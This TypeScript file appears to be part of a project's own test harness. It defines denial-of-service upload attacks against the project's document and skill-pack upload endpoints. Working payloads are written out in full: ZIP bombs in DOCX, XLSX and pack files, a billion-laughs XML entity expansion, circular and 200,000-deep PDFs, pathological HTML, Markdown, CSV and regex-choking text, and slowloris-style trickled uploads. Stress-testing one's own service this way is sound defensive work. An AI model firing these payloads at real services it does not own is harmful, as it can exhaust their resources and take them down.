import { crc32, deflateRawSync } from 'node:zlib';
import { setTimeout as sleep } from 'node:timers/promises';

import { CREATE_UPLOAD as CREATE_DOCUMENT } from '../../harness/document-view.js';
import { CREATE_UPLOAD as CREATE_PACK, zipOf } from '../../harness/pack-uploads.js';
import type { Attack, Attacker } from '../attacker.js';

interface Place {
  url: string;
  method: string;
  headers: Record<string, string>;
}

interface Given {
  createDocumentUpload?: Place;
  createSkillUpload?: Place;
}

async function placeFor(attacker: Attacker, name: string, bytes: number): Promise<Place> {
  const isPack = name.endsWith('.skill');
  const input = isPack ? { name, bytes } : { name, bytes, mediaType: '' };
  const given = await attacker.ask<Given>(isPack ? CREATE_PACK : CREATE_DOCUMENT, { input });
  const place = given.createDocumentUpload ?? given.createSkillUpload;
  if (!place) throw new Error('There is no place for it.');
  return place;
}

function uploading(
  name: string,
  content: () => Buffer<ArrayBuffer> | Promise<Buffer<ArrayBuffer>>,
  atOnce = 3,
) {
  return async (attacker: Attacker): Promise<void> => {
    const body = await content();
    await attacker.storm(atOnce, async () => {
      const { url, method, headers } = await placeFor(attacker, name, body.byteLength);
      const { pathname, search } = new URL(url);
      const response = await attacker.request(`${pathname}${search}`, { method, headers, body });
      await response.arrayBuffer();
    });
  };
}

/** One entry of a ZIP that says it is as large as it is not, or is larger than anybody would keep. */
function zipBomb(path: string, unpackedBytes: number): Buffer<ArrayBuffer> {
  const content = Buffer.alloc(unpackedBytes, ' ');
  const packed = deflateRawSync(content);
  const name = Buffer.from(path);
  const about = Buffer.alloc(26);
  about.writeUInt16LE(20, 0);
  about.writeUInt16LE(8, 4);
  about.writeUInt32LE(crc32(content), 10);
  about.writeUInt32LE(packed.length, 14);
  about.writeUInt32LE(content.length, 18);
  about.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), about, name, packed]);
  const tail = Buffer.alloc(14);
  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\x00'), about, tail, name]);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(1, 4);
  end.writeUInt16LE(1, 6);
  end.writeUInt32LE(central.length, 8);
  end.writeUInt32LE(local.length, 12);
  return Buffer.concat([local, central, Buffer.from('PK\x05\x06'), end]);
}

async function manyEntries(): Promise<Buffer<ArrayBuffer>> {
  return Buffer.from(
    await zipOf(
      Object.fromEntries(Array.from({ length: 3_000 }, (_, index) => [`a/${index}/SKILL.md`, 'x'])),
    ),
  );
}

/** Each entity is ten of the one before. */
async function entities(): Promise<Buffer<ArrayBuffer>> {
  const declared = Array.from(
    { length: 9 },
    (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`,
  );
  const xml = `<!DOCTYPE a [<!ENTITY e0 "lol">${declared.join('')}]><w:document>&e9;</w:document>`;
  return Buffer.from(await zipOf({ 'word/document.xml': xml, '[Content_Types].xml': '<Types/>' }));
}

const MB = 1024 * 1024;
function text(written: string): Buffer<ArrayBuffer> {
  return Buffer.from(written);
}

function pdf(objects: readonly string[]): Buffer<ArrayBuffer> {
  return text(
    `%PDF-1.7\n${objects.map((body, index) => `${index + 1} 0 obj\n${body}\nendobj\n`).join('')}trailer\n<< /Root 1 0 R /Size ${objects.length + 1} >>\nstartxref\n0\n%%EOF`,
  );
}

/** Pages that are their own children. */
function circularPdf(): Buffer<ArrayBuffer> {
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1000000000 /Kids [2 0 R 2 0 R 3 0 R] >>',
    '<< /Type /Page /Parent 3 0 R /Contents 3 0 R /Resources 3 0 R >>',
  ]);
}

function deepPdf(): Buffer<ArrayBuffer> {
  return pdf(['<< /Type /Catalog /Pages 2 0 R >>', `${'[ '.repeat(200_000)}${'] '.repeat(200_000)}`]);
}

function drawingPdf(): Buffer<ArrayBuffer> {
  const drawing = 'q 1 0 0 1 0 0 cm BT /F1 12 Tf (a) Tj ET '.repeat(200_000);
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${drawing.length} >>\nstream\n${drawing}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

/** Begins an upload and sends what `write` writes. */
function trickling(write: (count: number) => string) {
  return async (attacker: Attacker): Promise<void> => {
    await Promise.all(
      Array.from({ length: 20 }, async () => {
        const { url, method, headers } = await placeFor(attacker, 'notes.txt', MB);
        const { pathname, search } = new URL(url);
        const said = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
        const socket = await attacker.connection();
        socket.write(
          `${method} ${pathname}${search} HTTP/1.1\r\nHost: a\r\nContent-Length: ${MB}\r\n${said.join('')}\r\n`,
        );
        for (let count = 0; !attacker.signal.aborted && !socket.destroyed; count += 1) {
          socket.write(write(count));
          await sleep(50);
        }
      }),
    );
  };
}

/** Files: archives that unpack to more, documents that are hard to read, uploads that never end. */
export const uploadAttacks: Attack[] = [
  {
    name: 'a DOCX that unpacks to 300 MB',
    run: uploading('bomb.docx', () => zipBomb('word/document.xml', 300 * MB)),
  },
  {
    name: 'an XLSX that unpacks to 300 MB',
    run: uploading('bomb.xlsx', () => zipBomb('xl/worksheets/sheet1.xml', 300 * MB)),
  },
  {
    name: 'a pack that unpacks to 300 MB',
    run: uploading('bomb.skill', () => zipBomb('a/SKILL.md', 300 * MB)),
  },
  { name: 'a pack of 3,000 files', run: uploading('many.skill', manyEntries) },
  { name: 'a PDF in circles', isQuick: true, run: uploading('circle.pdf', circularPdf) },
  { name: 'a DOCX of entities that multiply', run: uploading('entities.docx', entities) },
  { name: 'a PDF 200,000 deep', run: uploading('deep.pdf', deepPdf) },
  { name: 'a PDF that draws without an end', run: uploading('draw.pdf', drawingPdf) },
  { name: 'HTML 100,000 deep', run: uploading('deep.html', () => text('<div>'.repeat(100_000))) },
  {
    name: 'HTML of unclosed attributes',
    run: uploading('open.html', () => text('<a href="'.repeat(300_000))),
  },
  {
    name: 'Markdown of brackets',
    run: uploading('deep.md', () => text(`${'['.repeat(200_000)}${'> '.repeat(100_000)}`)),
  },
  { name: 'Markdown of stars', run: uploading('stars.md', () => text('*a _b '.repeat(200_000))) },
  { name: 'a text of one line of 5 MB', run: uploading('line.txt', () => text('a'.repeat(5 * MB))) },
  { name: 'a text of blanks', run: uploading('blank.txt', () => text(`${' \n'.repeat(MB)}x`)) },
  {
    name: 'a text that expressions choke on',
    run: uploading('hostile.txt', () => text(`${'a'.repeat(100)}@${'.a'.repeat(500_000)}`)),
  },
  { name: 'a CSV of quotes', run: uploading('quotes.csv', () => text('"a","",""""\n'.repeat(300_000))) },
  {
    name: 'a CSV of 100,000 columns',
    run: uploading('wide.csv', () => text(`${'a,'.repeat(100_000)}\n`.repeat(10))),
  },
  { name: 'bytes that are nothing', run: uploading('noise.pdf', () => Buffer.alloc(2 * MB, 0x9d)) },
  {
    name: 'uploads announced and never sent',
    run: (attacker) => attacker.storm(8, () => placeFor(attacker, 'a.txt', 1_000)),
  },
  { name: 'uploads a byte at a time', isQuick: true, run: trickling(() => 'a') },
  { name: 'uploads that stop', run: trickling((count) => (count === 0 ? 'a'.repeat(MB / 2) : '')) },
];
